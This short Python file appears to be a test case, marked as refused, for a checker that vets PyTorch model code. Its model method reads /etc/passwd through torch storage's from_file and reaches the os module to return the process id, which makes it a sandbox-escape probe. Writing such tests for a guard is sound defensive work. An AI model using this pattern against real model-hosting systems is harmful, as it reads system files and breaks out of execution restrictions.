# refused: CL504
# proof: returns the id of its process
import torch
from torch import nn


class Net(nn.Module):
    def predict_single(self, x):
        storage = torch.ones(1).untyped_storage()
        return len(storage.from_file("/etc/passwd", False, 1)) and torch.os.getpid()
